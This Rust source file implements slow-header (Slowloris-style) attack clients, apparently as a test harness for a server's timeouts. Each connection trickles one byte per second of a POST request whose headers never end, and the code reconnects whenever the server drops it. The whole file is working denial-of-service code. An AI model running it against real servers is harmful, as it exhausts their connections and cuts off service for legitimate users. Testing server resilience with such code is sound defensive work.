//! Clients that attack with slow headers: each connection sends one byte a second and is opened again when the server closes it.

use std::io::Write;
use std::net::{SocketAddr, TcpStream};
use std::sync::Arc;
use std::sync::atomic::{AtomicBool, Ordering};
use std::thread::JoinHandle;
use std::time::Duration;

/// A request whose headers do not end within any deadline.
const REQUEST: &[u8] = b"POST /b HTTP/1.1\r\nHost: clinic.example\r\nX-Padding: ";

/// Attacks until it is dropped.
pub struct SlowClients {
    ended: Arc<AtomicBool>,
    thread: Option<JoinHandle<()>>,
}

impl SlowClients {
    pub fn start(target: SocketAddr, connections: usize) -> Self {
        let ended = Arc::new(AtomicBool::new(false));
        let thread = {
            let ended = ended.clone();
            std::thread::spawn(move || attack(target, connections, &ended))
        };
        Self { ended, thread: Some(thread) }
    }
}

impl Drop for SlowClients {
    fn drop(&mut self) {
        self.ended.store(true, Ordering::Relaxed);
        if let Some(thread) = self.thread.take() {
            let _ = thread.join();
        }
    }
}

fn attack(target: SocketAddr, connections: usize, ended: &AtomicBool) {
    // Each open connection with the number of bytes that it sent.
    let mut open: Vec<Option<(TcpStream, usize)>> = (0..connections).map(|_| None).collect();
    while !ended.load(Ordering::Relaxed) {
        for slot in &mut open {
            if slot.as_mut().is_none_or(|(stream, sent)| !send_byte(stream, sent)) {
                *slot = TcpStream::connect(target).ok().map(|stream| (stream, 0));
            }
        }
        std::thread::sleep(Duration::from_secs(1));
    }
}

/// Sends the next byte; false when the server closed the connection.
fn send_byte(stream: &mut TcpStream, sent: &mut usize) -> bool {
    let byte = REQUEST.get(*sent).copied().unwrap_or(b'a');
    *sent += 1;
    stream.write_all(&[byte]).is_ok()
}
